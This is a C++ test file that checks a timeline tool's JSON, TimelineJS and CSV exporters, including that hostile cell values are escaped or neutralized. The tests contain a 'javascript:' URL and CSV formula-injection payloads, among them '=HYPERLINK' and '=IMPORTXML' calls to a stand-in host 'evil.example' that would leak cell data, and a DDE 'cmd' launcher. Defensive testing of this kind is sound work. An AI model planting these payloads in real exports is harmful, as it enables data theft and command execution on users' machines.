// Each export format against output written out by hand from the events below.
#include <set>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "core/export/export.h"
#include "tests/support/dates.h"

using namespace chronicle;
using nlohmann::json;

namespace {

events::Mention source(std::int64_t article_id, const std::string& sentence, std::size_t begin, std::size_t end,
                       const std::string& timex_text, std::size_t timex_begin, const std::string& value,
                       text::Span trigger = {}, events::State state = events::State::happened) {
  events::Mention mention;
  mention.trigger = trigger;
  mention.state = state;
  mention.article_id = article_id;
  mention.summary = sentence;
  mention.sentence = {begin, end};
  mention.timex.text = timex_text;
  mention.timex.begin = timex_begin;
  mention.timex.end = timex_begin + timex_text.size();
  mention.timex.value = value;
  return mention;
}

events::Event event(std::int64_t id, events::EventDate date, const std::string& headline, const std::string& summary,
                    double confidence, std::vector<events::Entity> entities, std::vector<events::Mention> sources) {
  events::Event e;
  e.id = id;
  e.date = std::move(date);
  e.headline = headline;
  e.summary = summary;
  e.confidence = confidence;
  e.entities = std::move(entities);
  e.sources = std::move(sources);
  return e;
}

const std::vector<events::Event> kEvents = {
    event(17, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "Syrian forces retook \"Palmyra\"",
          "On Sunday, forces retook Palmyra.", 0.9, {{"Palmyra", "place", {}}, {"Syria", "place", {}}},
          {source(3, "On Sunday, forces retook Palmyra.", 770, 803, "Sunday", 773, "2016-03-27", {788, 794})}),
    event(4, testing::event_date("2015-05", "month", "2015-05-01T00:00:00", "2015-06-01T00:00:00"), "Palmyra fell <b>", "It fell\nlast May.",
          0.5, {}, {source(5, "It fell\nlast May.", 0, 18, "last May", 8, "2015-05", {}, events::State::reported)}),
    event(8, testing::event_date("2016-W12", "week", "2016-03-21T00:00:00", "2016-03-28T00:00:00"), "Talks went on", "Talks went on.", 0.25,
          {}, {}),
    event(9, testing::event_date("199", "decade", "1990-01-01T00:00:00", "2000-01-01T00:00:00"), "A decade of change", "The 1990s.", 0.1, {},
          {}),
};

const store::ArticleRefs kArticles = {
    {3, {"Palmyra <retaken>", "https://example.org/p?a=1&b=2", "2016-03-29T16:27:03", std::nullopt}},
    {5, {"Bad link", "javascript:alert(1)", "2016-03-30", 3}},  // a wire reprint of article 3
};

}  // namespace

TEST_CASE("native JSON is the Event form of the design, wrapped in {\"events\": [...]}", "[export]") {
  const json expected = json::parse(R"x({"events": [
    {"id": 17,
     "date": {"value": "2016-03-27", "granularity": "day", "start": "2016-03-27T00:00:00", "end": "2016-03-28T00:00:00"},
     "headline": "Syrian forces retook \"Palmyra\"", "summary": "On Sunday, forces retook Palmyra.", "confidence": 0.9, "state": "happened",
     "independent_sources": 1,
     "entities": [{"name": "Palmyra", "kind": "place"}, {"name": "Syria", "kind": "place"}],
     "sources": [{"article_id": 3, "title": "Palmyra <retaken>", "url": "https://example.org/p?a=1&b=2",
                  "published": "2016-03-29T16:27:03",
                  "sentence": {"text": "On Sunday, forces retook Palmyra.", "begin": 770, "end": 803},
                  "trigger": {"text": "retook", "begin": 788, "end": 794}, "state": "happened",
                  "timex": {"text": "Sunday", "begin": 773, "end": 779, "value": "2016-03-27"}}]},
    {"id": 4,
     "date": {"value": "2015-05", "granularity": "month", "start": "2015-05-01T00:00:00", "end": "2015-06-01T00:00:00"},
     "headline": "Palmyra fell <b>", "summary": "It fell\nlast May.", "confidence": 0.5, "state": "reported", "independent_sources": 1, "entities": [],
     "sources": [{"article_id": 5, "title": "Bad link", "url": "javascript:alert(1)", "published": "2016-03-30", "reprint_of": 3,
                  "sentence": {"text": "It fell\nlast May.", "begin": 0, "end": 18},
                  "trigger": null, "state": "reported",
                  "timex": {"text": "last May", "begin": 8, "end": 16, "value": "2015-05"}}]},
    {"id": 8,
     "date": {"value": "2016-W12", "granularity": "week", "start": "2016-03-21T00:00:00", "end": "2016-03-28T00:00:00"},
     "headline": "Talks went on", "summary": "Talks went on.", "confidence": 0.25, "state": "happened", "independent_sources": 0, "entities": [], "sources": []},
    {"id": 9,
     "date": {"value": "199", "granularity": "decade", "start": "1990-01-01T00:00:00", "end": "2000-01-01T00:00:00"},
     "headline": "A decade of change", "summary": "The 1990s.", "confidence": 0.1, "state": "happened", "independent_sources": 0, "entities": [], "sources": []}
  ]})x");
  CHECK(json::parse(exporting::to_json(kEvents, kArticles)) == expected);
  CHECK(exporting::to_json({}, {}) == "{\"events\":[]}\n");
}

TEST_CASE("TimelineJS dates go only as far as the event's granularity, with escaped HTML text", "[export]") {
  const json expected = json::parse(R"x({"events": [
    {"start_date": {"year": 2016, "month": 3, "day": 27},
     "text": {"headline": "Syrian forces retook &quot;Palmyra&quot;",
              "text": "<p>On Sunday, forces retook Palmyra.</p><p>Sources: <a href=\"https://example.org/p?a=1&amp;b=2\">Palmyra &lt;retaken&gt;</a></p>"},
     "unique_id": "event-17"},
    {"start_date": {"year": 2015, "month": 5},
     "text": {"headline": "Palmyra fell &lt;b&gt;", "text": "<p>It fell\nlast May.</p><p>Sources: Bad link</p>"},
     "unique_id": "event-4"},
    {"start_date": {"year": 2016, "month": 3, "day": 21}, "end_date": {"year": 2016, "month": 3, "day": 27},
     "text": {"headline": "Talks went on", "text": "<p>Talks went on.</p>"},
     "unique_id": "event-8"},
    {"start_date": {"year": 1990}, "end_date": {"year": 1999},
     "text": {"headline": "A decade of change", "text": "<p>The 1990s.</p>"},
     "unique_id": "event-9"}
  ],
  "title": {"text": {"headline": "Chronicle: 4 events", "text": "<p>From 1990 to 2016.</p>"}}})x");
  CHECK(json::parse(exporting::to_timelinejs(kEvents, kArticles)) == expected);
  CHECK(json::parse(exporting::to_timelinejs({}, {})) == json::parse(R"({"events": []})"));
}

TEST_CASE("CSV quotes fields with commas, quotes and line breaks as RFC 4180 says", "[export]") {
  const std::string expected =
      "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
      "17,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,\"Syrian forces retook \"\"Palmyra\"\"\","
      "\"On Sunday, forces retook Palmyra.\",0.9,Palmyra; Syria,https://example.org/p?a=1&b=2\r\n"
      "4,2015-05,month,2015-05-01T00:00:00,2015-06-01T00:00:00,Palmyra fell <b>,\"It fell\nlast May.\",0.5,,"
      "javascript:alert(1)\r\n"
      "8,2016-W12,week,2016-03-21T00:00:00,2016-03-28T00:00:00,Talks went on,Talks went on.,0.25,,\r\n"
      "9,199,decade,1990-01-01T00:00:00,2000-01-01T00:00:00,A decade of change,The 1990s.,0.1,,\r\n";
  CHECK(exporting::to_csv(kEvents, kArticles) == expected);
}

TEST_CASE("format names are json, timelinejs and csv only", "[export]") {
  CHECK(exporting::parse_format("json") == exporting::Format::kJson);
  CHECK(exporting::parse_format("timelinejs") == exporting::Format::kTimelineJs);
  CHECK(exporting::parse_format("csv") == exporting::Format::kCsv);
  CHECK_FALSE(exporting::parse_format("JSON"));
  CHECK_FALSE(exporting::parse_format("xml"));
  CHECK_FALSE(exporting::parse_format(""));
}

TEST_CASE("CSV text cells that a spreadsheet would run as a formula start with a quote and are quoted", "[export]") {
  const std::vector<events::Event> hostile = {
      event(1, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"),
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Read\")", "+1+cmd|' /C calc'!A0", 0.5,
            {{"@SUM(1+1)", "person", {}}, {"Palmyra", "place", {}}}, {source(7, "s", 0, 1, "", 0, "")}),
      event(2, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "-5 soldiers were wounded",
            "\t=1+1", 0.5, {}, {}),
      event(3, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "\r=1+1",
            "\xEF\xBC\x9D" "1+1", 0.5, {}, {}),
  };
  const store::ArticleRefs refs = {{7, {"=IMPORTXML(\"http://evil.example\",\"//a\")", "", "2016-03-29", std::nullopt}}};
  const std::string expected =
      "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
      "1,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,"
      "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Read\"\")\",\"'+1+cmd|' /C calc'!A0\",0.5,"
      "\"'@SUM(1+1); Palmyra\",\"'=IMPORTXML(\"\"http://evil.example\"\",\"\"//a\"\")\"\r\n"
      "2,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,\"'-5 soldiers were wounded\",\"'\t=1+1\",0.5,,\r\n"
      "3,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,\"'\r=1+1\",\"'\xEF\xBC\x9D" "1+1\",0.5,,\r\n";
  CHECK(exporting::to_csv(hostile, refs) == expected);
}

TEST_CASE("CSV text cells with a formula sign after their first character are left as they are", "[export]") {
  const std::vector<events::Event> plain = {
      event(5, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "Talks: 2+2=4",
            "Mail press@example.org - now", 0.5, {{"A-ha", "organization", {}}}, {}),
  };
  CHECK(exporting::to_csv(plain, {}) ==
        "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
        "5,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,Talks: 2+2=4,Mail press@example.org - now,0.5,"
        "A-ha,\r\n");
}

TEST_CASE("CSV date cells keep years before 1 as written but neutralize anything that could run", "[export]") {
  const std::vector<events::Event> dated = {
      // The Ides of March, 44 BC, in ISO 8601's astronomical years: 44 BC is year -0043.
      event(6, testing::event_date("-0043-03-15", "day", "-0043-03-15T00:00:00", "-0043-03-16T00:00:00"), "Caesar was killed",
            "-0043 is 44 BC.", 0.5, {}, {}),
      event(7, testing::event_date("=1+1", "day", "-1+cmd|' /C calc'!A0", "@A1"), "Damaged", "Damaged.", 0.5, {}, {}),
  };
  CHECK(exporting::to_csv(dated, {}) ==
        "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
        "6,-0043-03-15,day,-0043-03-15T00:00:00,-0043-03-16T00:00:00,Caesar was killed,\"'-0043 is 44 BC.\",0.5,,\r\n"
        "7,\"'=1+1\",day,\"'-1+cmd|' /C calc'!A0\",\"'@A1\",Damaged,Damaged.,0.5,,\r\n");
}

TEST_CASE("TimelineJS times at midnight carry a display date, since TimelineJS would show a bare day", "[export]") {
  const std::vector<events::Event> timed = {
      event(1, testing::event_date("2016-03-29T00:00", "minute", "2016-03-29T00:00:00", "2016-03-29T00:01:00"), "Polls opened", "s", 0.5,
            {}, {}),
      event(2, testing::event_date("2016-03-27T21:30", "minute", "2016-03-27T21:30:00", "2016-03-27T21:31:00"), "The mayor spoke", "s",
            0.5, {}, {}),
  };
  const json slides = json::parse(exporting::to_timelinejs(timed, {}))["events"];
  REQUIRE(slides.size() == 2);
  CHECK(slides[0]["start_date"] ==
        json{{"year", 2016}, {"month", 3}, {"day", 29}, {"hour", 0}, {"minute", 0},
             {"display_date", "12:00 AM March 29, 2016"}});
  CHECK_FALSE(slides[0].contains("end_date"));
  CHECK(slides[1]["start_date"] == json{{"year", 2016}, {"month", 3}, {"day", 27}, {"hour", 21}, {"minute", 30}});
}

namespace {

// The date fields of a TimelineJS date object in order, from year down to minute (absent = -1).
std::vector<int> timelinejs_date(const json& date) {
  std::vector<int> fields;
  for (const char* name : {"year", "month", "day", "hour", "minute"}) {
    fields.push_back(date.contains(name) ? date[name].get<int>() : -1);
  }
  return fields;
}

// What TimelineJS 3 asks of a date object (docs/json-format: year required and a whole number;
// month 1-12, hour 0-23, minute 0-59; a finer field only with the coarser ones; display_date text).
void check_timelinejs_date(const json& date) {
  REQUIRE(date.is_object());
  for (const auto& [key, value] : date.items()) {
    if (key == "display_date") {
      CHECK(value.is_string());
    } else {
      CHECK((key == "year" || key == "month" || key == "day" || key == "hour" || key == "minute"));
      CHECK(value.is_number_integer());
    }
  }
  REQUIRE(date.contains("year"));
  const std::vector<int> f = timelinejs_date(date);
  CHECK((f[1] == -1 || (f[1] >= 1 && f[1] <= 12)));
  CHECK((f[2] == -1 || (f[1] != -1 && f[2] >= 1 && f[2] <= 31)));
  CHECK((f[3] == -1 || (f[2] != -1 && f[3] >= 0 && f[3] <= 23)));
  CHECK((f[4] == -1 || (f[3] != -1 && f[4] >= 0 && f[4] <= 59)));
}

}  // namespace

TEST_CASE("every TimelineJS slide passes the checks TimelineJS 3 makes when it loads a document", "[export]") {
  const std::vector<events::Event> all_kinds = {
      event(1, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "Day", "s", 0.5, {}, {}),
      event(2, testing::event_date("2016-W12", "week", "2016-03-21T00:00:00", "2016-03-28T00:00:00"), "Week", "s", 0.5, {}, {}),
      event(3, testing::event_date("2015-12", "month", "2015-12-01T00:00:00", "2016-01-01T00:00:00"), "Month", "s", 0.5, {}, {}),
      event(4, testing::event_date("2015-Q4", "quarter", "2015-10-01T00:00:00", "2016-01-01T00:00:00"), "Quarter", "s", 0.5, {}, {}),
      event(5, testing::event_date("2015-WI", "season", "2015-12-01T00:00:00", "2016-03-01T00:00:00"), "Winter", "s", 0.5, {}, {}),
      event(6, testing::event_date("2015", "year", "2015-01-01T00:00:00", "2016-01-01T00:00:00"), "Year", "s", 0.5, {}, {}),
      event(7, testing::event_date("199", "decade", "1990-01-01T00:00:00", "2000-01-01T00:00:00"), "Decade", "s", 0.5, {}, {}),
      event(8, testing::event_date("19", "century", "1900-01-01T00:00:00", "2000-01-01T00:00:00"), "Century", "s", 0.5, {}, {}),
      event(9, testing::event_date("2016-03-27T21", "hour", "2016-03-27T21:00:00", "2016-03-27T22:00:00"), "Hour", "s", 0.5, {}, {}),
      event(10, testing::event_date("2016-12-31T23:59", "minute", "2016-12-31T23:59:00", "2017-01-01T00:00:00"), "Minute", "s", 0.5, {},
            {}),
      event(11, testing::event_date("0001-01-01", "day", "0001-01-01T00:00:00", "0001-01-02T00:00:00"), "Year one", "s", 0.5, {}, {}),
      // A date the store cannot hold in this form is left out rather than written as a broken date.
      event(12, testing::event_date("2016-02-30", "day", "2016-02-30T00:00:00", "2016-03-01T00:00:00"), "Bad", "s", 0.5, {}, {}),
      event(13, testing::event_date("PRESENT_REF", "day", "", ""), "Undated", "s", 0.5, {}, {}),
  };
  const json document = json::parse(exporting::to_timelinejs(all_kinds, {}));
  REQUIRE(document.is_object());
  const json& slides = document["events"];
  REQUIRE(slides.is_array());
  CHECK(slides.size() == 11);
  std::set<std::string> ids;
  for (const json& slide : slides) {
    INFO(slide.dump());
    for (const auto& [key, value] : slide.items()) {
      CHECK((key == "start_date" || key == "end_date" || key == "text" || key == "unique_id"));
    }
    check_timelinejs_date(slide["start_date"]);
    if (slide.contains("end_date")) {
      check_timelinejs_date(slide["end_date"]);
      // TimelineJS drops an end equal to the start; an end before it would draw backwards.
      CHECK(timelinejs_date(slide["end_date"]) > timelinejs_date(slide["start_date"]));
    }
    CHECK(slide["text"]["headline"].is_string());
    CHECK(slide["text"]["text"].is_string());
    REQUIRE(slide["unique_id"].is_string());
    CHECK_FALSE(slide["unique_id"].get<std::string>().empty());
    ids.insert(slide["unique_id"].get<std::string>());
  }
  CHECK(ids.size() == slides.size());
  // The winter of 2015 runs from December 2015 to February 2016, at month precision.
  CHECK(slides[4]["start_date"] == json{{"year", 2015}, {"month", 12}});
  CHECK(slides[4]["end_date"] == json{{"year", 2016}, {"month", 2}});
  CHECK(slides[7]["end_date"] == json{{"year", 1999}});
}
